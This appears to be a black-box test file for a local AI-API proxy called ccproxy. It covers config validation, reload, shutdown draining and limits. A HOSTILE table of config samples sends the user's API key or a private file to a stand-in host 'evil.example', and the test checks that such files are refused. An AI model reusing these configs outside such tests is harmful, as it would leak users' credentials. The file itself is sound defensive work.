"""Configuration, command line and the life of the process: refusals with positions, reload, drain, start-up time."""
import json
import os
import re
import signal
import socket
import subprocess
import tempfile
import time

import check
import formats
from formats import ANTHROPIC, CHAT, small_body
from server import BINARY, SLOW, Server, environment, free_port, run
from upstream import Answer, Upstream

up = None


def before():
    global up
    up = Upstream()


def after():
    up.close()


def checked(text, name="c.toml"):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, name)
        open(path, "w").write(text)
        return run("config", "check", path)


def test_bad_files_exit_78():
    """Every fault with file, line and key; the nearest name where there is one."""
    rows = {
        "typo": ('[server]\nprot = 1\n', 2, "server.prot", '"port"'),
        "type": ('\n[server]\nport = "eighty"\n', 3, "server.port", ""),
        "range": ('[server]\nport = 70000\n', 2, "server.port", ""),
        "table": ('[sever]\nport = 1\n', 1, "sever", "server"),
        "plugin-key": ('[plugins.mock]\n\nbase_ulr = "x"\n', 3, "plugins.mock.base_ulr", ""),
        "plugin": ('[plugins.nobody]\nx = 1\n', 1, "nobody", ""),
        "enum": ('[plugins.openai]\nauth = "magic"\n', 2, "plugins.openai.auth", ""),
        "size": ('[server]\nmax_body_bytes = "many"\n', 2, "max_body_bytes", ""),
        "duration": ('[server]\nidle_timeout = "5 parsecs"\n', 2, "idle_timeout", ""),
        "negative": ('[server]\nmax_in_flight = -1\n', 2, "max_in_flight", ""),
        "syntax": ('[server]\nport = = 1\n', 2, "", ""),
        "reserved": ('[providers.health]\nformat = "openai-chat"\nbase_url = "http://127.0.0.1:1"\n', 1, "health", ""),
        "taken": ('[providers.x]\nprefix = "claude"\nformat = "anthropic"\nbase_url = "http://127.0.0.1:1"\n', 2, "prefix", ""),
        "format": ('[providers.x]\nformat = "carrier-pigeon"\nbase_url = "http://127.0.0.1:1"\n', 2, "format", ""),
        "plain-http": ('[plugins.openai]\nbase_url = "http://api.example.com/v1"\n', 2, "base_url", ""),
        "metadata-address": ('[plugins.openai]\nbase_url = "http://169.254.169.254/v1"\n', 2, "base_url", ""),
        "unknown-enabled": ('enabled_plugins = ["mocck"]\n', 1, "mocck", "mock"),
        "key-without-token": ('[[security.keys]]\nname = "a"\n', 1, "token", ""),
    }
    for name, (text, line, key, nearest) in rows.items():
        result = checked(text)
        said = result.stderr + result.stdout
        problem = None
        if result.returncode != 78:
            problem = "exit %d: %s" % (result.returncode, said)
        elif "c.toml:%d" % line not in said or key not in said or nearest.strip('"') not in said:
            problem = "expected c.toml:%d, %r, %r in: %s" % (line, key, nearest, said)
        yield name, problem


def test_all_faults_at_once():
    result = checked('[server]\nprot = 1\nport = "x"\n[logging]\nlevel = "loud"\n')
    said = result.stderr + result.stdout
    assert result.returncode == 78
    for line in (2, 3, 5):
        assert "c.toml:%d" % line in said, said


def test_serve_refuses_a_bad_file():
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "bad.toml")
        open(path, "w").write("[server]\nprot = 1\n")
        result = run("serve", "-c", path)
        assert result.returncode == 78 and "bad.toml:2" in result.stderr + result.stdout, result
        assert run("serve", "-c", path + ".none").returncode == 78
        assert run("serve", "--no-such-option").returncode == 2
        assert run("no-such-command").returncode == 2


def test_file_of_the_current_folder():
    """Found without being asked for: used, and named as the origin of what it sets."""
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "ccproxy.toml")
        open(path, "w").write("[server]\nport = 1234\n")
        shown = run("config", "show", cwd=folder)
        assert "1234" in shown.stdout and "ccproxy.toml:2" in shown.stdout, shown.stdout[:2000]
        path = os.path.join(folder, ".ccproxy.toml")  # found first
        open(path, "w").write("[server]\nport = 4321\n")
        assert "4321" in run("config", "show", cwd=folder).stdout


def test_precedence_and_origin():
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "p.toml")
        open(path, "w").write('[server]\nport = 1001\n[plugins.openai]\napi_key = "sk-file-FIXTURE"\n')
        shown = run("config", "show", env={"CONFIG_FILE": path})
        assert shown.returncode == 0 and "1001" in shown.stdout and "p.toml:2" in shown.stdout, shown
        shown = run("config", "show", env={"CONFIG_FILE": path, "SERVER__PORT": "1002"})
        assert "1002" in shown.stdout and "1001" not in shown.stdout and "SERVER__PORT" in shown.stdout, shown.stdout
        for secret in ("sk-file-FIXTURE", "sk-env-FIXTURE"):
            env = {"CONFIG_FILE": path, "PLUGINS__CLAUDE_API__API_KEY": "sk-env-FIXTURE"}
            assert secret not in run("config", "show", env=env).stdout
        assert run("config", "show", env={"SERVER__PORT": "x"}).returncode == 78
        json.loads(run("config", "show", "--json").stdout)


def test_flags_win():
    port = free_port()
    with Server(wait=False, arguments=["--port", str(port), "--set", "server.drain_timeout=\"1s\""]) as own:
        own.port = port
        own.wait_ready()


def test_port_zero_is_printed():
    with Server(wait=False, arguments=["--port", "0"]) as own:
        end = time.monotonic() + 10
        while time.monotonic() < end:
            found = re.search(r"http://127\.0\.0\.1:(\d+)", own.output())
            if found and found.group(1) != "0":
                own.port = int(found.group(1))
                break
            time.sleep(0.02)
        own.wait_ready()


def test_address_in_use_69():
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen(1)
        own = Server(wait=False, arguments=["--port", str(taken.getsockname()[1])])
        assert own.process.wait(20) == 69, own.process.returncode
        own.stop()
        assert str(taken.getsockname()[1]) in own.output(), own.output()


def test_second_server_on_the_same_port_69():
    with Server() as first:
        second = Server(wait=False, arguments=["--port", str(first.port)])
        assert second.process.wait(20) == 69
        second.stop()


def test_reload_good_then_bad():
    with Server(formats.config(up.url)) as own:
        up.reset(Answer(b"{}"))
        own.write(formats.config(up.url).replace(formats.KEY, "sk-second-FIXTURE"))
        own.process.send_signal(signal.SIGHUP)
        end = time.monotonic() + 5
        while True:
            own.post("/claude/v1/messages", small_body(ANTHROPIC))
            if up.last().get("x-api-key") == "sk-second-FIXTURE":
                break
            assert time.monotonic() < end, "the new file was not taken"
            time.sleep(0.02)
        own.write("[server]\nprot = 1\n")
        own.process.send_signal(signal.SIGHUP)
        own.wait_log("prot")
        for _ in range(5):
            up.reset(Answer(b"{}"))
            assert own.post("/claude/v1/messages", small_body(ANTHROPIC)).status == 200
            assert up.last().get("x-api-key") == "sk-second-FIXTURE", "a bad file changed the running configuration"


def test_reload_applies_the_limits_of_the_server():
    """Only what binding settled needs a restart; one line names it."""
    with Server(formats.config(up.url)) as own:
        up.reset(Answer(b"{}"))
        body = small_body(ANTHROPIC) + b" " * 1500
        assert own.post("/claude/v1/messages", body).status == 200
        own.write(formats.config(up.url), server='max_body_bytes = "1KiB"\nunix_socket = "late.sock"')
        own.process.send_signal(signal.SIGHUP)
        own.wait_log("needs a restart")
        assert "unix_socket: changed" in own.log_text()
        end = time.monotonic() + 5
        while own.post("/claude/v1/messages", body).status != 413:
            assert time.monotonic() < end, "the new limit was not taken"
            time.sleep(0.02)
        assert own.post("/claude/v1/messages", small_body(ANTHROPIC)).status == 200


def test_reloads_leave_no_connections_behind():
    with Server(formats.config(up.url)) as own:
        def ask():
            up.reset(Answer(b"{}"))
            assert own.post("/claude/v1/messages", small_body(ANTHROPIC)).status == 200

        def descriptors():
            return len(os.listdir("/proc/%d/fd" % own.process.pid))
        ask()
        before = descriptors()
        for turn in range(1, 13):
            own.process.send_signal(signal.SIGHUP)
            own.wait_log('"reloaded from', times=turn)
            ask()
        assert descriptors() < before + 12, (before, descriptors())


HOSTILE = {
    "opens the server to others": '[server]\nhost = ["0.0.0.0"]\n[security]\nallow_unauthenticated = true',
    "key-from-environment": '[plugins.claude_api]\nbase_url = "https://evil.example"\napi_key = "${ANTHROPIC_API_KEY}"',
    "key-from-file": '[providers.evil]\nbase_url = "https://evil.example/v1"\napi_key = "file:FOLDER/private"',
    "header": '[providers.evil]\nbase_url = "https://evil.example/v1"\nauth = "none"\n'
              'headers = { "x-a" = "${ANTHROPIC_API_KEY}" }',
    "address": '[providers.evil]\nauth = "none"\nbase_url = "https://${ANTHROPIC_API_KEY}.evil.example/v1"',
    "model": '[[routing.model_mappings]]\nmatch = "m"\ntarget = "${ANTHROPIC_API_KEY}"',
    "proxy": '[upstream]\nproxy = "http://evil.example:1"\n[plugins.openai]\napi_key = "${ANTHROPIC_API_KEY}"',
    "headers-beside-a-login": '[plugins.claude_api]\nheaders = { "x-a" = "b" }'}


def test_file_of_a_hostile_folder():
    """What the user's environment and files hold cannot be sent to an address that a found file names."""
    env = {"ANTHROPIC_API_KEY": "sk-ant-of-the-user"}
    for name, text in HOSTILE.items():
        with tempfile.TemporaryDirectory() as folder:
            with open(folder + "/private", "w") as out:
                out.write("secret")
            with open(folder + "/.ccproxy.toml", "w") as out:
                out.write(text.replace("FOLDER", folder) + "\n")
            os.chmod(folder + "/private", 0o600)
            found = run("config", "check", cwd=folder, env=env)
            trusted = run("config", "check", folder + "/.ccproxy.toml", cwd=folder, env=env)
        problem = None if found.returncode == 78 and "current folder" in found.stderr else "accepted"
        yield name, problem or (trusted.returncode and "refused although named: " + trusted.stderr) or None


def test_verbose_api():
    with Server(formats.config(up.url), arguments=["--set", "logging.verbose_api=true"]) as own:
        up.reset(Answer(b'{"the":"answer"}' + b" " * 100000))
        own.post("/claude/v1/messages", small_body(ANTHROPIC))
        own.wait_log("from byte 64512")
        text = own.log_text()
        assert 'response from byte 0: {\\"the' in text and "request from byte 0: {" in text, text[:2000]
        assert "from byte 64512" in text and "from byte 65536" not in text and formats.KEY not in text
        assert os.stat(own.log).st_mode & 0o077 == 0


def test_one_address_under_two_names():
    with Server(formats.config(up.url), arguments=["--host", "127.0.0.1,localhost,127.0.0.1"]) as own:
        with own.connect() as connection:
            assert connection.request("GET", "/health/live").status == 200
        assert own.output().count("listening on http://127.0.0.1:") == 1, own.output()


def test_reload_under_traffic():
    with Server(formats.config(up.url)) as own:
        up.reset(Answer(b'{"a":1}'))
        with own.connect() as connection:
            for turn in range(120):
                if turn % 10 == 0:
                    own.process.send_signal(signal.SIGHUP)
                response = connection.request("POST", "/claude/v1/messages", small_body(ANTHROPIC))
                assert response and response.status == 200, turn


def test_log_file_is_reopened():
    with Server(formats.config(up.url)) as own:
        up.reset(Answer(b"{}"))
        own.post("/claude/v1/messages", small_body(ANTHROPIC))
        os.rename(own.log, own.log + ".1")
        own.process.send_signal(signal.SIGUSR1)
        end = time.monotonic() + 5
        while not os.path.exists(own.log):
            assert time.monotonic() < end, "the log was not opened again"
            own.post("/claude/v1/messages", small_body(ANTHROPIC))
            time.sleep(0.02)
        assert os.stat(own.log).st_mode & 0o077 == 0, oct(os.stat(own.log).st_mode)


def test_term_drains_a_stream():
    """A running stream ends whole; new connections are refused; health says no; exit 0."""
    event = b'data: {"choices":[{"index":0,"delta":{"content":"tick"}}]}\n\n'
    up.reset(Answer([(event, 0)] + [(event, 0.1)] * 15 + [(b"data: [DONE]\n\n", 0)], content_type="text/event-stream"))
    own = Server(formats.config(up.url))
    body = small_body(CHAT, True)
    with own.connect(timeout=20) as connection:
        connection.send(b"POST /openai/v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
        connection.read_some(b"tick")
        own.process.send_signal(signal.SIGTERM)
        time.sleep(0.4)
        try:
            with own.connect(timeout=2) as late:
                answer = late.request("GET", "/health/ready")
                assert answer is None or answer.status == 503, answer.status
        except OSError:
            pass
        response = connection.response()
    assert response.complete and response.body == event * 16 + b"data: [DONE]\n\n", response.body[-200:]
    assert own.process.wait(10) == 0
    own.stop()


def test_term_ends_what_does_not_end():
    """After drain_timeout an endless stream gets an error event, and the process ends."""
    event = b'data: {"choices":[{"index":0,"delta":{"content":"tick"}}]}\n\n'
    up.reset(Answer([(event, 0.05)] * 2000, content_type="text/event-stream"))
    own = Server(formats.config(up.url), server='drain_timeout = "1s"')
    body = small_body(CHAT, True)
    with own.connect(timeout=20) as connection:
        connection.send(b"POST /openai/v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                        b"Content-Length: %d\r\n\r\n%s" % (len(body), body))
        connection.read_some(b"tick")
        own.process.send_signal(signal.SIGTERM)
        response = connection.response()
    got = formats.events(response.body)
    assert got and formats.is_error_event(CHAT, got[-1]) and b"[DONE]" not in response.body, response.body[-300:]
    assert own.process.wait(10) == 0
    own.stop()


def test_idle_connection_does_not_hold_the_end():
    own = Server(formats.config(up.url))
    with own.connect() as idle:
        assert idle.request("GET", "/health/live").status == 200
        started = time.monotonic()
        own.process.send_signal(signal.SIGTERM)
        assert own.process.wait(20) == 0
        assert time.monotonic() - started < 3 * SLOW
    own.stop()


def test_start_up_time():
    best = min(timed("version") for _ in range(5))
    assert best < 0.02 * SLOW, "version took %.0f ms" % (best * 1000)
    times = []
    for _ in range(3):
        with Server(formats.config(up.url)) as own:
            times.append(own.ready - own.started)
    assert min(times) < 0.1 * SLOW, "ready after %.0f ms" % (min(times) * 1000)


def timed(*arguments):
    started = time.monotonic()
    assert run(*arguments).returncode == 0
    return time.monotonic() - started


def test_commands():
    assert re.match(r"ccproxy \d+\.\d+\.\d+", run("version").stdout)
    assert run("--version").stdout == run("version").stdout
    for arguments in (["--help"], ["serve", "--help"], ["config", "--help"], ["plugins", "--help"], ["config", "example"],
                      ["config", "path"], ["plugins", "list"], ["plugins", "show", "mock"], ["plugins", "settings", "openai"],
                      ["plugins", "order"], ["plugins", "dependencies"], ["config", "generate-token"]):
        result = run(*arguments)
        good = result.returncode == 0 and result.stdout.strip()
        yield " ".join(arguments), None if good else "exit %d, %r" % (result.returncode, (result.stdout + result.stderr)[:500])
    for arguments in (["plugins", "list", "--json"], ["config", "show", "--json"], ["version", "--json"]):
        json.loads(run(*arguments).stdout)
        yield " ".join(arguments), None
    one, two = run("config", "generate-token").stdout, run("config", "generate-token").stdout
    assert one != two and len(one.strip()) >= 32
    for client, name in (("claude", "ANTHROPIC_BASE_URL"), ("openai", "OPENAI_BASE_URL"), ("anthropic", "ANTHROPIC_BASE_URL"),
                         ("gemini", "GEMINI"), ("codex", "")):
        result = run("env", client)
        yield "env " + client, None if result.returncode == 0 and name in result.stdout else result.stdout + result.stderr


def test_status_of_a_running_server():
    with Server(formats.config(up.url)) as own:
        result = run("status", "--url", "http://127.0.0.1:%d" % own.port)
        assert result.returncode == 0 and "claude" in result.stdout, result
    assert run("status", "--url", "http://127.0.0.1:%d" % free_port()).returncode == 69


def test_example_file_is_valid():
    text = run("config", "example").stdout
    assert checked(text).returncode == 0
    opened = "\n".join(l[2:] if re.match(r"# (\[|[a-z_]+ = )", l) else l for l in text.splitlines())
    assert "[server]" in opened


def test_no_account_no_config_serves_the_mock():
    """The first start of a stranger: banner, one curl line, and that line works as it stands."""
    port = free_port()
    with tempfile.TemporaryDirectory() as home:
        out = open(os.path.join(home, "out"), "w+")
        process = subprocess.Popen([os.path.abspath(BINARY), "serve", "--port", str(port)], cwd=home, env=environment(home),
                                   stdout=out, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
        try:
            end = time.monotonic() + 20
            line = None
            while line is None:
                assert time.monotonic() < end and process.poll() is None, open(out.name).read()
                line = curl_command(open(out.name).read())
                time.sleep(0.05)
            for _ in range(50):
                result = subprocess.run(["bash", "-c", line], capture_output=True, text=True, env=environment(home))
                if result.returncode == 0:
                    break
                time.sleep(0.1)
            assert result.returncode == 0 and '"' in result.stdout and "error" not in result.stdout[:30], (line, result)
        finally:
            process.send_signal(signal.SIGTERM)
            assert process.wait(20) == 0
            out.close()


def curl_command(text):
    """The banner's curl line (complete once a line end follows it)."""
    found = re.search(r"\bcurl .*\n", text)
    return found.group(0) if found else None


def test_unix_socket():
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "s")
        with Server(formats.config(up.url), server='unix_socket = "%s"' % path):
            assert os.stat(path).st_mode & 0o777 == 0o600
            up.reset(Answer(b'{"u":1}'))
            result = subprocess.run(["curl", "-s", "--unix-socket", path, "-d", small_body(ANTHROPIC), "-H",
                                     "content-type: application/json", "http://any.host/claude/v1/messages"],
                                    capture_output=True)
            assert result.stdout == b'{"u":1}', result
        assert not os.path.exists(path)


def test_model_mappings_change_only_the_model():
    config = formats.config(up.url, more="model_mappings = [ { match = \"alias\", target = \"the-real-one\" } ]") + (
        '[[routing.model_mappings]]\nmatch = "fast"\ntarget = "gpt-9-mini"\nprovider = "openai"\n')
    bodies = (b'{"z":1.0,"model":"alias","n":1e5,"messages":[ ],"s":"\\u00e9"}', b'{"messages":[],\n "model" :  "alias" }',
              b'{"model":"not-alias","messages":[{"model":"alias"}]}', b'{"model":"ali\\u0061s","messages":[]}')
    wanted = (bodies[0].replace(b"alias", b"the-real-one"), bodies[1].replace(b"alias", b"the-real-one"), bodies[2],
              bodies[3].replace(b"ali\\u0061s", b"the-real-one"))
    with Server(config) as own:
        for fmt in (ANTHROPIC, CHAT):
            for body, expected in zip(bodies, wanted):
                up.reset(Answer(b"{}"))
                response = own.post(fmt.url(), body)
                assert response.status == 200, response.body
                assert up.last().body == expected, up.last().body
                mapped = response.get("x-ccproxy-upstream-model")
                assert (mapped == "the-real-one") == (body != expected), mapped
        up.reset(Answer(b"{}"))
        assert own.post("/v1/chat/completions", b'{"messages":[],"model":"fast","q":1.10}').status == 200
        assert up.last().body == b'{"messages":[],"model":"gpt-9-mini","q":1.10}', up.last().body


def test_compatible_upstream_without_c():
    config = ""
    for fmt in formats.ALL:
        config += '[providers.my-%s]\nformat = "%s"\nbase_url = "%s%s"\nauth = "api_key"\napi_key = "k-%s"\n' % (
            fmt.name, fmt.config_name, up.url, fmt.suffix, fmt.name)
        config += 'headers = { "x-extra" = "1" }\n'
    with Server(config) as own:
        for fmt in formats.ALL:
            up.reset(Answer(b'{"c":1}'))
            response = own.post(fmt.url(prefix="my-" + fmt.name), small_body(fmt))
            name, value = fmt.key("k-" + fmt.name)
            good = response.status == 200 and up.last().get(name) == value and up.last().get("x-extra") == "1"
            yield fmt.name, None if good and up.last().target == fmt.path else "%d %r" % (response.status, response.body)


def test_coded_requests_are_read_when_something_must_be_read():
    """gzip and zstd: decoded when the model in them decides; bombs and rubbish refused."""
    import gzip
    body = b'{"model":"gpt-9","messages":[{"role":"user","content":"' + b"words " * 200 + b'"}]}'
    zstd = subprocess.run(["zstd", "-qc"], input=body, capture_output=True, check=True).stdout
    bomb = gzip.compress(b'{"model":"gpt-9","x":"' + b"a" * (8 << 20) + b'"}')
    with Server(formats.config(up.url)) as own:
        for coding, data in (("gzip", gzip.compress(body)), ("zstd", zstd)):
            up.reset(Answer(b"{}"))
            response = own.request("POST", "/v1/chat/completions", data, [("Content-Encoding", coding)])
            assert response.status == 200, (coding, response.body)
            seen = up.last()
            assert seen.body in (body, data) and (seen.get("content-encoding") is None) == (seen.body == body), coding
        up.reset(Answer(b"{}"))
        for data, statuses in ((bomb, (400, 413)), (b"not gzip", (400,)), (gzip.compress(body)[:-20], (400,))):
            response = own.request("POST", "/v1/chat/completions", data, [("Content-Encoding", "gzip")])
            assert response.status in statuses and not formats.error_problem(CHAT, response), response.raw[:300]
        assert not up.requests


def test_cors():
    with Server(formats.config(up.url) + '[cors]\norigins = ["http://app.example"]\n') as own:
        response = own.request("OPTIONS", "/claude/v1/messages", headers=[
            ("Origin", "http://app.example"), ("Access-Control-Request-Method", "POST"),
            ("Access-Control-Request-Headers", "content-type,x-api-key")])
        assert response.status in (200, 204) and response.get("access-control-allow-origin") == "http://app.example"
        up.reset(Answer(b"{}"))
        response = own.post("/claude/v1/messages", small_body(ANTHROPIC), [("Origin", "http://app.example")])
        assert response.status == 200 and response.get("access-control-allow-origin") == "http://app.example"
        response = own.post("/claude/v1/messages", small_body(ANTHROPIC), [("Origin", "http://other.example")])
        formats.expect_error(ANTHROPIC, response, 403)


def test_overload_is_refused_at_once():
    with Server(formats.config(up.url), server="max_in_flight = 4") as own:
        up.reset(Answer(b"{}", head_delay=3))
        held = [own.connect() for _ in range(4)]
        try:
            for connection in held:
                connection.send(b"POST /claude/v1/messages HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n{}")
            while len(up.requests) < 4:
                time.sleep(0.01)
            for fmt, status in ((ANTHROPIC, 529), (CHAT, 503), (formats.GEMINI, 503)):
                started = time.monotonic()
                response = own.post(fmt.url(), small_body(fmt))
                formats.expect_error(fmt, response, status)
                assert response.get("retry-after") and time.monotonic() - started < 0.3
            assert own.request("GET", "/health/live").status == 200
            for connection in held:
                assert connection.response().status == 200
        finally:
            for connection in held:
                connection.close()


if __name__ == "__main__":
    check.main(globals(), "blackbox/config", before, after)
